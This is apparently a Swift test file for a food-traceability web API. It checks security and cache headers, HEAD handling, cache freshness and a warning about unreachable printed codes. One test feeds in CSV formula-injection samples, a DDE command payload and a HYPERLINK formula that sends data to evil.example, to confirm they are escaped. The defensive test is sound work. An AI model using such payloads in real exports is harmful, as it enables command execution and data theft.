import Foundation
import Gateway
import Hummingbird
import HummingbirdTesting
import KitchenModel
import Logging
import Storage
import StorageModel
import TestSupport
import Testing
import Traceability
@testable import WebAPI

/// What answers carry besides their body: a full CSP on the HACCP page and the SVG receipt,
/// `Cache-Control` for public and private answers, HEAD on the consumer page, CSV cells that
/// cannot run as formulas, a lookup cache that sees every batch write, and the dashboard's
/// warning when printed codes point at this machine. Through the real router and SQLite.
@Suite struct ResponseHeaderTests {
    @Test func theHACCPPageAndTheSVGReceiptHaveAFullContentSecurityPolicy() async throws {
        let f = try WebFixture()
        let admin = try f.token(.admin)
        try await f.test { client in
            try await f.addBatches(client)
            try await client.execute(uri: "/api/v1/reports/haccp?site=canteen-01&date=2026-11-22&format=html", method: .get,
                                     headers: admin) { response in
                #expect(response.status == .ok)
                let policy = try #require(response.headers[.contentSecurityPolicy])
                for directive in ["default-src 'none'", "style-src 'unsafe-inline'", "base-uri 'none'", "form-action 'none'",
                                  "frame-ancestors 'none'"] {
                    #expect(policy.contains(directive), "\(policy)")
                }
                #expect(!policy.contains("script-src"))
                #expect(response.headers[.cacheControl] == "private, no-store")
            }
            try await client.execute(uri: "/api/v1/tickets/\(f.ticketInScope)/receipt?format=svg", method: .get,
                                     headers: admin) { response in
                #expect(response.status == .ok)
                #expect(response.headers[.contentType] == "image/svg+xml")
                #expect(response.headers[.contentSecurityPolicy]?.hasPrefix("default-src 'none'") == true)
                #expect(response.headers[.contentSecurityPolicy]?.contains("frame-ancestors 'none'") == true)
                #expect(response.headers[.cacheControl] == "private, no-store")
            }
        }
    }

    @Test func publicAnswersAreBrieflyCacheableAndAuthenticatedOnesAreNot() async throws {
        let f = try WebFixture()
        let admin = try f.token(.admin)
        try await f.test { client in
            try await f.addBatches(client)
            let market = try f.token(.site, "market-01")
            let gs1 = #"{"id":"b-g","item":"青菜","category":"蔬菜","quantity":5,"unit":"kg","supplier":{"name":"绿源","licence":"L-1"},"origin":{"place":"蔡甸"},"arrival_date":"2026-11-22","gtin":"6901234567892","lot":"L7"}"#
            try await client.execute(uri: "/api/v1/sites/market-01/batches", method: .post, headers: market,
                                     body: ByteBuffer(string: gs1)) { #expect($0.status == .created, "\(String(buffer: $0.body))") }
            for uri in ["/api/v1/tickets/\(f.ticketInScope)", "/01/6901234567892/10/L7"] {
                try await client.execute(uri: uri, method: .get) { response in
                    #expect(response.status == .ok, "\(uri)")
                    #expect(response.headers[.cacheControl] == "public, max-age=60", "\(uri)")
                }
            }
            for uri in ["/api/v1/sites", "/api/v1/alarms", "/api/v1/batches/b-in", "/api/v1/batches/b-in/epcis",
                        "/api/v1/reports/haccp?site=canteen-01&date=2026-11-22",
                        "/api/v1/evidence/\(f.evidenceInScope)/original.jpg",
                        "/api/v1/evidence/\(f.evidenceInScope)/thumbnail.jpg", "/metrics"] {
                try await client.execute(uri: uri, method: .get, headers: admin) { response in
                    #expect(response.status == .ok, "\(uri)")
                    #expect(response.headers[.cacheControl] == "private, no-store", "\(uri)")
                }
            }
            // The dashboard's copy of an evidence picture too: not in the browser's cache after logout.
            let session = try DashboardPageTests.login(f, .admin).id
            try await client.execute(uri: "/dashboard/evidence/\(f.evidenceInScope)/thumbnail.jpg", method: .get,
                                     headers: [.cookie: "bk_session=\(session)"]) { response in
                #expect(response.status == .ok)
                #expect(response.headers[.cacheControl] == "private, no-store")
            }
        }
    }

    @Test func headOnTheConsumerPageIsGETWithoutTheBody() async throws {
        let f = try WebFixture()
        try await f.test { client in
            try await f.addBatches(client)
            // The forged code's last character must differ from the genuine one (a fixed "A" is genuine 1 time in 32).
            let forgedLast = f.ticketInScope.hasSuffix("A") ? "B" : "A"
            for (uri, status) in [("/t/\(f.ticketInScope)", HTTPResponse.Status.ok), ("/T/\(f.ticketInScope)", .ok),
                                  ("/t/\(String(f.ticketInScope.dropLast()))\(forgedLast)", .notFound)] {
                let get = try await client.execute(uri: uri, method: .get) { $0 }
                let head = try await client.execute(uri: uri, method: .head) { $0 }
                #expect(get.status == status && head.status == status, "\(uri)")
                #expect(head.body.readableBytes == 0)
                #expect(head.headers[.contentLength] == String(get.body.readableBytes), "\(uri)")
                for name in [HTTPFields.Element.Name.contentType, .cacheControl, .contentSecurityPolicy, .vary, .xContentTypeOptions] {
                    #expect(head.headers[name] == get.headers[name], "\(uri) \(name)")
                }
            }
        }
    }

    @Test func headOverARealSocketWithTheFastPathInFront() async throws {
        let f = try WebFixture()
        let lookup = PublicLookup(f.dependencies)
        let app = try buildApplication(f.dependencies, lookup: lookup, host: "127.0.0.1", port: 0, services: [],
                                       logger: Logger(label: "test"))
        try await app.test(.live) { client in
            try await f.addBatches(client)
            let get = try await client.execute(uri: "/t/\(f.ticketInScope)", method: .get)
            _ = try await client.execute(uri: "/t/\(f.ticketInScope)", method: .get)
            #expect(lookup.fastAnswers.load(ordering: .relaxed) == 1, "the page is cached and served before the router")
            let head = try await client.execute(uri: "/t/\(f.ticketInScope)", method: .head)
            #expect(head.status == .ok)
            #expect(head.body.readableBytes == 0)
            #expect(head.headers[.contentLength] == String(get.body.readableBytes))
            #expect(head.headers[.contentSecurityPolicy] == get.headers[.contentSecurityPolicy])
            // The connection is still usable after a HEAD answer.
            #expect(try await client.execute(uri: "/t/\(f.ticketInScope)", method: .get).body == get.body)
        }
    }

    @Test func csvCellsThatAreFormulasReachTheSpreadsheetAsText() async throws {
        let f = try WebFixture()
        let admin = try f.token(.admin)
        let action = "=cmd|' /C calc'!A0"
        let name = #"=HYPERLINK("http://evil.example/?d="&A1,"详情")"#
        try await Application(router: f.router()).test(.router) { client in
            let body = String(decoding: try JSONEncoder().encode(["action": action, "by": name]), as: UTF8.self)
            try await client.execute(uri: "/api/v1/alarms/al_cs/rectify", method: .post, headers: admin,
                                     body: ByteBuffer(string: body)) { #expect($0.status == .ok, "\(String(buffer: $0.body))") }
            try await client.execute(uri: "/api/v1/reports/haccp?site=canteen-02&date=2026-11-22", method: .get,
                                     headers: admin) { response in
                #expect(response.status == .ok)
                let csv = String(buffer: response.body)
                let row = try #require(csv.split(separator: "\r\n").first { $0.hasPrefix("excursion,") })
                #expect(row.contains(#","'=cmd|' /C calc'!A0","#), "\(row)")
                #expect(row.contains(##","'=HYPERLINK(""http://evil.example/?d=""&A1,""详情"") (admin#"##), "\(row)")
                #expect(!row.contains(",=") && !row.contains(",\"="), "no cell starts a formula: \(row)")
            }
        }
    }

    @Test func twoBatchWritesInOneMillisecondAreBothSeenByTheLookupCache() async throws {
        let f = try WebFixture()
        try await f.test { client in
            try await f.addBatches(client)
            let page = { try await client.execute(uri: "/t/\(f.ticketInScope)", method: .get) { String(buffer: $0.body) } }
            #expect(try await page().contains("正品"))
            _ = try await page()  // cached now
            // Both writes carry the fixture's clock: the same millisecond as the batch's creation.
            let batch = BatchID("b-in")!
            let created = try #require(try f.store.batch(batch)).updatedAt
            let failed = Inspection(method: .rapidTest, passed: false, items: ["农药残留"], tester: "李", at: created)
            _ = try f.service.reinspect(batch, failed, actor: "inspector", at: created)
            let afterInspection = try #require(f.service.batches.cachedVersioned(batch)).version
            #expect(try await page().contains("检验不合格"), "the failed re-inspection shows at once")
            _ = try f.service.recall(batch, reason: "农药残留超标", actor: "inspector", at: created)
            #expect(try #require(f.service.batches.cachedVersioned(batch)).version > afterInspection)
            #expect(try await page().contains("农药残留超标"), "and so does the recall in the same millisecond")
            #expect(try #require(try f.store.batch(batch)).updatedAt == created, "the writes really shared a millisecond")
        }
    }

    @Test(arguments: [
        ("http://127.0.0.1:8080", "127.0.0.1"), ("HTTP://127.9.8.7/T/", "127.9.8.7"), ("http://localhost:8080", "localhost"),
        ("http://LOCALHOST./", "localhost"), ("http://0.0.0.0:8080", "0.0.0.0"), ("http://[::1]:8080/T/", "::1"),
        ("http://[::]:8080", "::"), ("http://[::ffff:127.0.0.1]/", "::ffff:127.0.0.1"), ("http://a:b@127.0.0.1/", "127.0.0.1"),
        ("https://t.example.cn", nil), ("http://192.168.1.20:8080", nil), ("http://[2001:db8::1]/", nil),
        ("http://128.0.0.1/", nil), ("http://localhost.example.cn/", nil),
    ] as [(String, String?)])
    func loopbackAndUnspecifiedHostsAreUnreachable(url: String, host: String?) {
        #expect(PublicURLBanner.unreachableHost(in: url) == host, "\(url)")
    }

    @Test func theDashboardWarnsOnEveryPageWhenPrintedCodesPointAtThisMachine() async throws {
        let f = try WebFixture()
        let admin = try DashboardPageTests.login(f, .admin).id
        func pages(_ dependencies: APIDependencies) async throws -> [(String, String)] {
            try await Application(router: buildRouter(dependencies)).test(.router) { client in
                var out: [(String, String)] = []
                for uri in ["/dashboard", "/dashboard/regions/4201", "/dashboard/sites/canteen-01", "/dashboard/alarms/al_in",
                            "/dashboard/sites/canteen-01?lang=en"] {
                    let body = try await client.execute(uri: uri, method: .get, headers: [.cookie: "bk_session=\(admin)"]) {
                        #expect($0.status == .ok, "\(uri)")
                        return String(buffer: $0.body)
                    }
                    out.append((uri, body))
                }
                return out
            }
        }
        for (uri, body) in try await pages(f.dependencies) {
            #expect(!body.contains("role=\"alert\""), "https://t.example.cn is reachable: \(uri)")
        }
        var local = f.dependencies
        local.traceability = TraceabilityService(store: f.store, batches: f.service.batches,
                                                 issuer: TicketIssuer(keyring: f.service.issuer.keyring,
                                                                      publicURL: "http://127.0.0.1:8080"))
        for (uri, body) in try await pages(local) {
            let english = uri.hasSuffix("lang=en")
            #expect(body.contains(english ? "Printed codes are unreachable" : "溯源码无法访问"), "\(uri)")
            #expect(body.contains("HTTP://127.0.0.1:8080/T/"), "\(uri)")
            #expect(body.contains("--public-url"), "\(uri)")
        }
    }
}
